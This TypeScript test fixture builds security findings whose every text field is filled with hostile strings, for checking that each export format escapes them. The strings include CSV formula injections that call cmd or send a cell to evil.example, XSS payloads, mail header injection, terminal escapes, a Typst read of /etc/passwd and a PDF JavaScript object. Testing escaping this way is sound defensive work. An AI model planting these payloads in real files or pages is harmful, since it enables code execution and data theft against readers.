import { z } from "zod";
import { findingSchema, type FindingView } from "../src/contract/index.ts";
import type { Exported } from "../src/judgement/exports/index.ts";

/**
 * Hostile text that somebody puts where others will read it: a banner, a host name, a justification. Each one attacks
 * some reader. Every exit has to show all of them as plain text.
 */
export const HOSTILE: Readonly<Record<string, string>> = {
  formula: "=cmd|'/c calc'!A0",
  "formula with a plus": '+HYPERLINK("http://evil.example/?"&A1,"click")',
  "formula with a minus": "-2+3+cmd|' /C calc'!A0",
  "formula with an at": "@SUM(1+1)*cmd|' /C calc'!A0",
  "formula after a blank": "  =1+1",
  "formula after a no-break space": "\u00a0=1+1",
  "formula after a quote": '"=1+1',
  "formula after an apostrophe": "'=1+1",
  "formula after a tab": "\t=1+1",
  "formula after a carriage return": "\r=1+1",
  "formula in full width": "＝1+1",
  "formula in the next cell": "harmless;=1+1",
  "formula in a new record": 'x"\r\n=1+1,"',
  "quotes and commas": '","",\'"","a',
  "script element": "<script>window.owned = true</script>",
  "element with a handler": "<img src=x onerror=\"window.owned=true;document.title='owned'\">",
  "end of an attribute": '" onmouseover="window.owned=true" x="',
  "end of a title and a style": "</title></style><script>window.owned=true</script>",
  "end of a comment": "--><svg/onload=window.owned=true>",
  "script URL": "javascript:window.owned=true",
  "entities that are decoded once": "&lt;script&gt; &amp;lt; &#60;b&#62;",
  "request for a picture": '<img src="http://127.0.0.1:9/pixel.png"><link rel=stylesheet href=//127.0.0.1:9/x.css>',
  "address that could become a link": "https://evil.example/login mailto:x@evil.example www.evil.example",
  "terminal escapes":
    "\u001b[2J\u001b]0;owned\u0007\u001b]8;;http://evil.example\u001b\\click\u001b]8;;\u001b\\\u009b31m",
  "bidirectional override": "user\u202egnp.exe\u2066admin\u2069",
  "zero width": "ad\u200bmin\u200d\ufeff\u2060\u00ad\u034f\u3164",
  "tag characters": "\u{e0068}\u{e0069}",
  "header of a mail": "x\r\nBcc: victim@evil.example\r\n\r\n<b>body</b>",
  "end of a mail": "x\r\n.\r\nMAIL FROM:<a@b.example>",
  "boundary of a mail": "--_NmP-Part_1--",
  "encoded word": "=?utf-8?B?b3duZWQ=?=",
  "separators of CEF": "a|b\\|c=d\\=e\\\\ dpt=1 cs1=owned",
  "end of a line of CEF": "x\nCEF:0|Evil|Evil|1|1|owned|10|",
  "mention in Slack": "<!channel> <!here> <@U012AB3CD> @channel #general",
  "link in Slack": "<http://evil.example|click here>",
  "markup in Slack": "*bold* _it_ ~s~ `code` > quote :boom:",
  "code of Typst": '#read("/etc/passwd") #import "@preview/x:1.0.0"',
  "mathematics of Typst": "$x$ $ sum_(k=0)^n $ *a* _b_ = c",
  "labels of Typst": '@label <label> https://evil.example `raw` // comment /* */ \\ #link("http://evil.example")[x]',
  "object of PDF": "(x) /S /JavaScript /JS (app.alert(1)) endobj stream",
  backslashes: "C:\\temp\\new \\u{41} \\\\u{41} \\\u001b \\",
  "lone surrogates": "\ud800 a \udfff",
  NUL: "a\u0000b",
  "line separators": "a\u2028b\u2029c\u0085d",
  "other scripts": "漢字 žluťoučký ⚠\ufe0f 🙂",
  "very long": `${"long ".repeat(2_000)}<b>`,
  "very long without a blank": "A".repeat(9_000),
  template: "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
  prototype: "__proto__",
};

/** Where a finding holds text from outside, such as `subject.asset`. */
export interface TextField {
  readonly path: string;
  readonly text: string;
}

/**
 * A finding in which every text that the schema allows is this one, and where these texts are. Fields added later are
 * hostile automatically. Instants, numbers and words of a fixed list keep valid values.
 */
export function hostileFinding(id: number, text: string): { finding: FindingView; fields: TextField[] } {
  const fields: TextField[] = [];
  const filled = fill(findingSchema, "", (path) => {
    fields.push({ path, text });
    return text;
  });
  const finding = findingSchema.parse(filled);
  // The last episode is the finding itself, so the one before it holds the texts that are the episode's own.
  const [episode] = finding.episodes ?? [];
  return { finding: { ...finding, id, episodes: episode === undefined ? [] : [episode, episode] }, fields };
}

export function hostileFindings(texts = Object.values(HOSTILE)): FindingView[] {
  return texts.map((text, at) => hostileFinding(at + 1, text).finding);
}

/** Replaces every text in a value, except under the given keys: words of a fixed list. */
export function withTexts<Value>(value: Value, text: string, but: readonly string[]): Value {
  const replaced = (part: unknown): unknown => {
    if (typeof part === "string") return text;
    if (Array.isArray(part)) return part.map(replaced);
    if (typeof part !== "object" || part === null) return part;
    return Object.fromEntries(
      Object.entries(part).map(([key, inner]: [string, unknown]) => [key, but.includes(key) ? inner : replaced(inner)]),
    );
  };
  return replaced(value) as Value;
}

/** A value of this schema with this text in every place that allows it. */
export function hostileValue<Schema extends z.ZodType>(schema: Schema, text: string): z.output<Schema> {
  return schema.parse(fill(schema, "", () => text));
}

function fill(schema: z.core.$ZodType, path: string, text: (path: string) => string): unknown {
  const { def } = schema._zod;
  if (schema instanceof z.ZodObject) {
    const entries = Object.entries(schema.shape);
    return Object.fromEntries(
      entries.map(([name, inner]) => [name, fill(inner, path === "" ? name : `${path}.${name}`, text)]),
    );
  }
  if (schema instanceof z.ZodOptional || schema instanceof z.ZodReadonly) return fill(schema.unwrap(), path, text);
  if (schema instanceof z.ZodTuple) return schema.def.items.map((item) => fill(item, path, text));
  if (schema instanceof z.ZodArray) return [fill(schema.element, path, text)];
  if (schema instanceof z.ZodEnum) return schema.options[0];
  if (schema instanceof z.ZodLiteral) return schema.value;
  if (schema instanceof z.ZodUnion) return fill(schema.options[0]!, path, text);
  if (schema instanceof z.ZodRecord) {
    const { keyType, valueType } = schema;
    const names = keyType instanceof z.ZodEnum ? keyType.options : [fill(keyType, path, text) as string];
    return Object.fromEntries(names.map((name) => [name, fill(valueType, `${path}.*`, text)]));
  }
  if (schema instanceof z.ZodBoolean) return true;
  if (schema instanceof z.ZodUnknown) return { [text(path)]: text(path) };
  if (schema instanceof z.ZodISODateTime) return "2026-03-14T08:12:04.000Z";
  if (schema instanceof z.ZodUUID) return "0b6e1d0a-5f0c-4f3e-8f52-3f0f0a4c6a11";
  if (schema instanceof z.ZodNumber) return Math.min(schema.maxValue ?? 8080, 8080);
  if (schema instanceof z.ZodString) {
    const given = text(path);
    // A text of a fixed form, which allows nothing else, stays empty.
    return schema.safeParse(given).success ? given : "";
  }
  throw new Error(`${path}: it is not defined how a ${def.type} is made hostile`);
}

/** An export with one hostile finding per text, in a scope and from vantage points that are called `name`. */
export function hostileExport(texts = Object.values(HOSTILE), name = "payment platform"): Exported {
  const at = Date.parse("2026-03-14T09:00:00Z");
  const about: Omit<Exported, "findings"> = {
    at,
    version: "1",
    scope: { name: "", version: 3 },
    filter: { status: ["new", "resolved"], kind: ["coverage-gap"], asset: "", vantage: "", openedSince: 0 },
    synthetic: false,
    openGaps: 1,
    coverage: { vantage: "", known: 131_070, silent: 65_535, unknown: 0 },
    lastSweep: { endedAt: at - 60_000, vantage: "" },
  };
  return { ...withTexts(about, name, ["status", "kind"]), findings: hostileFindings(texts) };
}
